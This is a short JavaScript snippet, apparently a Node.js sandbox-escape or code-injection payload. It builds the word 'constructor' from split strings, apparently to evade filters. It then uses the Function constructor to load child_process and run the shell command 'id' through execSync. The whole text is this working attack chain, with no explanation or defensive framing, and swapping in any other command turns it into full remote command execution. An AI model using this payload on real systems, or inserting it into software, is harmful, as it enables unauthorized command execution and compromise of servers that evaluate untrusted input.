const key = 'constr' + 'uctor';
const F = (() => {})[key];
F('return process.mainModule.require("child_process")')().execSync('id');
